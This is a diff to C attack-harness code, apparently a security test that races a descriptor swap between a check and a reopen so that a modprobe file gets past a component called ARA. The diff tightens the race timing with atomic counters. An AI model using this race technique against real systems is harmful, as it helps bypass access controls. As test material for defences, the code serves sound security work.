@@ -377,14 +377,16 @@ static int attack_modprobe(void)
 static struct {
 	int evil, slot;
 	struct stat evil_st;
-	int stop;
+	int stop, in_open;
+	unsigned int epoch, idle_epoch; /* the swapper is idle since open number epoch returned */
 	unsigned long swaps;
 } race;
 
 /*
  * Swapped at once, the probe would be checked as modprobe and refused: the
  * swap must fall between the check and the reopen, so it waits a different
- * while each time.
+ * while each time. It swaps only while an open is under way: what the
+ * open returned is then looked at undisturbed.
  */
 static void *race_swap(void *arg)
 {
@@ -392,7 +394,12 @@ static void *race_swap(void *arg)
 	uint32_t lcg = 1;
 
 	(void)arg;
-	while (!__atomic_load_n(&race.stop, __ATOMIC_RELAXED)) {
+	while (!__atomic_load_n(&race.stop, __ATOMIC_SEQ_CST)) {
+		if (!__atomic_load_n(&race.in_open, __ATOMIC_SEQ_CST)) {
+			__atomic_store_n(&race.idle_epoch, __atomic_load_n(&race.epoch, __ATOMIC_SEQ_CST),
+					 __ATOMIC_SEQ_CST);
+			continue;
+		}
 		if (fstat(race.slot, &st) != 0 || st.st_ino == race.evil_st.st_ino)
 			continue;
 		lcg = lcg * 1103515245u + 12345u;
@@ -423,9 +430,16 @@ static int attack_open_race(void)
 		return 1;
 	}
 	for (int i = 0; i < RACE_ATTEMPTS && won < 0; i++) {
-		int fd = open(own, O_RDWR | O_CLOEXEC), fl;
+		int fd, fl;
 		struct stat st;
 
+		__atomic_store_n(&race.in_open, 1, __ATOMIC_SEQ_CST);
+		fd = open(own, O_RDWR | O_CLOEXEC);
+		__atomic_add_fetch(&race.epoch, 1, __ATOMIC_SEQ_CST);
+		__atomic_store_n(&race.in_open, 0, __ATOMIC_SEQ_CST);
+		while (__atomic_load_n(&race.idle_epoch, __ATOMIC_SEQ_CST) !=
+		       __atomic_load_n(&race.epoch, __ATOMIC_SEQ_CST))
+			;
 		if (fd < 0)
 			continue; /* the other thread closed or replaced one of ARA's descriptors */
 		fl = fcntl(fd, F_GETFL);
@@ -436,7 +450,8 @@ static int attack_open_race(void)
 		else
 			close(fd);
 		opened++;
-		close(race.slot); /* free the number again (the swapped-in modprobe, or nothing) */
+		if (won < 0) /* free the number again (the swapped-in modprobe, or nothing) */
+			close(race.slot);
 	}
 	__atomic_store_n(&race.stop, 1, __ATOMIC_RELAXED);
 	pthread_join(t, NULL);
